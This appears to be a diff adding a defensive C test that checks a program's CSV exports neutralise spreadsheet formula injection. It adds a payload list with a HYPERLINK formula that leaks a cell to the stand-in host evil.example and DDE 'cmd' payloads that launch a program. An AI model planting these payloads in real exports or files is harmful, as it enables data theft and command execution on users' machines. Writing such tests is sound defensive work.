@@ -3,7 +3,8 @@
  * Every JSON the program reads (scenario files, the dataset, changes stored in a document)
  * is refused with a message that says what is wrong when it nests too deep, repeats a key,
  * hides characters a reviewer cannot see, or holds numbers the model cannot use; nothing
- * crashes.
+ * crashes. Every CSV the program writes keeps text from users and data from becoming a
+ * spreadsheet formula; the cells are read back by Python's csv module.
  *
  * The tables below are also what the reliability note counts: each case tried, each case
  * that was refused with the expected message (or, for the good cases, read as meant).
@@ -539,6 +540,120 @@ test_large_numbers_written (void)
   }
 }
 
+/* ---- CSV injection -------------------------------------------------------------------- */
+
+static const char * const payloads[] = {
+  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
+  "=cmd|' /C calc'!A0",
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "=1+1,\"quoted\"\r\nsecond line",
+};
+
+/* Runs tests/check-csv-cells.py on @csv: every cell that begins as a formula would must be a
+ * number, and each payload must be found, neutralised, in a cell. */
+static void
+check_csv (const char         *label,
+           const char         *csv,
+           const char * const *expect,
+           guint               n_expect)
+{
+  g_autofree char *path = fp_test_tmpfile ("cells.csv");
+  g_autofree char *script = g_test_build_filename (G_TEST_DIST, "check-csv-cells.py", NULL);
+  g_autoptr(GPtrArray) argv = g_ptr_array_new ();
+  g_autoptr(GError) error = NULL;
+  g_autofree char *out = NULL;
+  g_autofree char *err = NULL;
+  int status = 0;
+
+  g_assert_true (g_file_set_contents (path, csv, -1, NULL));
+  g_ptr_array_add (argv, "python3");
+  g_ptr_array_add (argv, script);
+  g_ptr_array_add (argv, path);
+  for (guint i = 0; i < n_expect; i++)
+    g_ptr_array_add (argv, (gpointer) expect[i]);
+  g_ptr_array_add (argv, NULL);
+
+  g_spawn_sync (NULL, (char **) argv->pdata, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, &err,
+                &status, &error);
+  g_assert_no_error (error);
+  g_test_message ("%s: %s%s", label, out, err);
+  if (!g_spawn_check_wait_status (status, NULL))
+    g_error ("%s: a CSV cell would be read as a formula:\n%s%s", label, out, err);
+}
+
+static void
+test_csv_injection (void)
+{
+  g_autoptr(FpEstate) estate = fp_test_load_tiny ();
+  g_autoptr(FpModel) model = NULL;
+  g_autoptr(FpResults) results = NULL;
+  g_autoptr(FpAccess) access = NULL;
+  g_autoptr(GPtrArray) no_changes = g_ptr_array_new ();
+  g_autoptr(GError) error = NULL;
+  g_autofree char *sites = NULL;
+  g_autofree char *compute = NULL;
+  g_autofree char *access_csv = NULL;
+  g_autofree char *zones_csv = NULL;
+  const char *site_payloads[G_N_ELEMENTS (payloads)];
+  guint n = MIN (estate->sites->len, G_N_ELEMENTS (payloads));
+
+  /* Site names and ids from data; the rest of the payloads go in texts. */
+  for (guint i = 0; i < estate->sites->len; i++)
+    {
+      FpSite *site = (FpSite *) fp_estate_get_site (estate, i);
+
+      if (i < n)
+        {
+          g_free (site->name);
+          site->name = g_strdup (payloads[i]);
+        }
+      for (guint t = 0; t < FP_SITE_N_TEXTS; t++)
+        {
+          g_free (site->texts[t]);
+          site->texts[t] = g_strdup (payloads[(i + t) % G_N_ELEMENTS (payloads)]);
+        }
+    }
+  {
+    /* An id too: the last site's. */
+    FpSite *last = (FpSite *) fp_estate_get_site (estate, estate->sites->len - 1);
+
+    g_free (last->id);
+    last->id = g_strdup ("@SUM(1+1)*cmd|' /C calc'!A0");
+  }
+  fp_estate_reindex (estate);
+  for (guint i = 0; i < n; i++)
+    site_payloads[i] = payloads[i];
+
+  sites = fp_export_sites_csv (estate);
+  check_csv ("sites", sites, payloads, G_N_ELEMENTS (payloads));
+
+  model = fp_model_new (estate, &error);
+  g_assert_no_error (error);
+  results = fp_compute_scenario (model, no_changes, NULL, &error);
+  g_assert_no_error (error);
+  for (guint p = 0; p < G_N_ELEMENTS (payloads); p++)
+    {
+      g_autofree char *label = g_strdup_printf ("compute, scenario %u", p);
+      const char *expect[G_N_ELEMENTS (payloads) + 1];
+
+      compute = (g_free (compute), fp_export_compute_csv (model, results, payloads[p], 0));
+      for (guint i = 0; i < n; i++)
+        expect[i] = site_payloads[i];
+      expect[n] = payloads[p];
+      check_csv (label, compute, expect, n + 1);
+    }
+
+  access = fp_access_compute (model, results, 0);
+  access_csv = fp_export_access_csv (model, results, access, NULL, payloads[0], NULL, FALSE);
+  check_csv ("access", access_csv, payloads, 1);
+  zones_csv = fp_export_access_csv (model, results, access, NULL, payloads[1], NULL, TRUE);
+  check_csv ("access by zone", zones_csv, &payloads[1], 1);
+}
+
 int
 main (int    argc,
       char **argv)
@@ -553,6 +668,7 @@ main (int    argc,
   g_test_add_func ("/fp/hostile/empty-input", test_empty_input);
   g_test_add_func ("/fp/hostile/bad-dataset", test_bad_dataset);
   g_test_add_func ("/fp/hostile/large-numbers-written", test_large_numbers_written);
+  g_test_add_func ("/fp/hostile/csv-injection", test_csv_injection);
 
   return g_test_run ();
 }
